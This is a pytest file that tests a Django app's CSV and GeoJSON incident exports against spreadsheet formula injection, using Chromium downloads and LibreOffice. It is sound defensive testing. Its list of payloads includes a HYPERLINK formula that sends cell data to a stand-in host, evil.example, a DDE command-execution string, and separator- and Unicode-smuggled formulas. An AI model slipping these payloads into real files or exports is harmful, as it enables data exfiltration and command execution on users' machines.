"""Files that the site gives out, of an incident whose every word is hostile: no cell is a formula, none is torn apart.

They are downloaded through the browser and read again with `csv`, `json` and, where there is one, LibreOffice.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from bench_of_tests import Workbench
from browser_of_tests import served
from django.core.handlers.wsgi import WSGIHandler
from incidents_of_tests import Reports

from onrecord.adapters.listing import follow
from onrecord.exchange import cells
from onrecord.exchange.cells import MARK, could_start, unguarded
from onrecord.exchange.incident_rows import COLUMNS
from onrecord.ledger import payload as j
from onrecord.ledger.judgement import Decision
from onrecord.ledger.told import Told, event_key
from onrecord.reading.reading import Link, LinkKind, Mode, Polarity
from onrecord.values.span import Span
from onrecord.values.value import Text

LINK = '=HYPERLINK("http://evil.example/?"&A1,"go")'
HOSTILE = (
    LINK, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "＝1+1", "\u200b=1+1", "\u202e=1+1", "\u2066=1+1\u2069", "'=1+1",
    'a","=1+1', 'a";"=1+1', "a;=1+1", "a\t=1+1", "two\n=1+1", "two\u2028=1+1", "two\u0085=1+1", "=cmd|' /C calc'!A0",
)  # fmt: skip
# What LibreOffice is told of the file: its separators, quotes, UTF-8, from the first line, and that formulas count.
OFFICE = "CSV:{separators},34,76,1,,0,false,false,false,false,false,-1,true"


def judge(at: Workbench) -> str:
    """An incident whose titles, outlets, speakers, values, words and reasons are hostile; its key."""
    reports, keys = Reports(at), []
    for number, words in enumerate(HOSTILE):
        sha256 = at.keep(f"It is said: {words} and so on {number}.", f"{number}{words}.txt", title=words, outlet=words)
        read = at.shelf("owner").page(sha256)
        assert read is not None
        document = read.document
        key = event_key(document.sha256, "e1")
        start = len("It is said: ")
        span = Span.of(document.text, start, start + len(words))
        outlet, speaker = Link(LinkKind.OUTLET, words), Link(LinkKind.SPEAKER, words, None, None, words, "Person")
        whole = Span.of(document.text, 0, len(document.text))
        told = Told(
            document.sha256, key, "cause", Polarity.ASSERTED, Text(words), (span,), Mode.INDIRECT, (whole,), (),
            (outlet, speaker),
        )  # fmt: skip
        reports.judge(j.accept(told, words))
        for other in keys[:1]:
            reports.judge(j.compared(Decision.SAME, key, other, words))
        keys.append(key)
    follow(at.bench.judging.journal)
    return keys[0]


@pytest.fixture
def given(place: Any, browser: Any, tmp_path: Path) -> dict[str, Path]:
    """Every file of that incident and of the list, as Chromium saves it."""
    key = judge(place.at)
    files = {}
    with served(WSGIHandler()) as address:
        host = address.removeprefix("http://")
        page = browser.new_page()
        page.goto(
            f"{address}/enter/{place.at.bench.accounts.link(place.at.accounts['owner'], host, timedelta(minutes=9))}"
        )
        for way in ("/incidents", f"/incidents/{key}"):
            for form in ("CSV", "GeoJSON"):
                page.goto(address + way)
                with page.expect_download() as saved:
                    page.get_by_role("button", name=form, exact=True).click()
                path = tmp_path / f"{'list' if way == '/incidents' else 'one'}.{form.lower()}"
                saved.value.save_as(path)
                assert saved.value.suggested_filename == f"incidents.{form.lower()}"
                files[path.name] = path
        page.close()
    return files


def read(path: Path) -> list[list[str]]:
    """The rows of a file, strictly."""
    with path.open(encoding="utf-8", newline="") as opened:
        return list(csv.reader(opened, strict=True))


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells that a spreadsheet may calculate."""
    return [cell for row in rows for cell in row if could_start(cell) and not cell.startswith(MARK)]


def calculated(path: Path, separators: str) -> list[str]:
    """The formulas that LibreOffice finds in a file, told by what cells are parted (numbers of characters)."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("no LibreOffice on this machine: apt-get install libreoffice-calc")
    out = path.parent / f"office-{separators.replace('/', '-')}"
    subprocess.run(
        [office, "--headless", f"-env:UserInstallation=file://{path.parent}/profile",
         f"--infilter={OFFICE.format(separators=separators)}", "--convert-to", "fods", "--outdir", out, path],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    return re.findall(r'table:formula="[^"]*"', (out / path.with_suffix(".fods").name).read_text(encoding="utf-8"))


@pytest.mark.chromium
def test_every_cell_of_what_is_downloaded_is_words(given: dict[str, Path]) -> None:
    for name in ("list.csv", "one.csv"):
        header, *rows = read(given[name])
        assert header == list(COLUMNS)
        assert {len(row) for row in rows} == {len(COLUMNS)}
        assert formulas(rows) == []
        for column in ("value", "words", "title", "outlet", "speaker", "reason"):
            at = COLUMNS.index(column)
            assert {"".join(unguarded(row[at]).split()) for row in rows} >= {
                "".join(each.split()) for each in HOSTILE
            }, column
    for name in ("list.geojson", "one.geojson"):
        found = json.loads(given[name].read_text(encoding="utf-8"))
        assert found["type"] == "FeatureCollection"
        assert found["features"]


@pytest.mark.chromium
@pytest.mark.parametrize("separators", ["44", "44/59/9"], ids=["commas", "all-that-are-usual"])
def test_a_spreadsheet_calculates_nothing(given: dict[str, Path], separators: str) -> None:
    assert calculated(given["one.csv"], separators) == []


@pytest.mark.chromium
def test_cells_that_are_not_guarded_are_found(place: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(cells, "cell", lambda value: "" if value is None else str(value))
    key = judge(place.at)
    path = tmp_path / "one.csv"
    path.write_bytes(place.at.client("owner").post(f"/incidents/{key}/give.csv").content)
    assert LINK in formulas(read(path))
    assert calculated(path, "44") != []
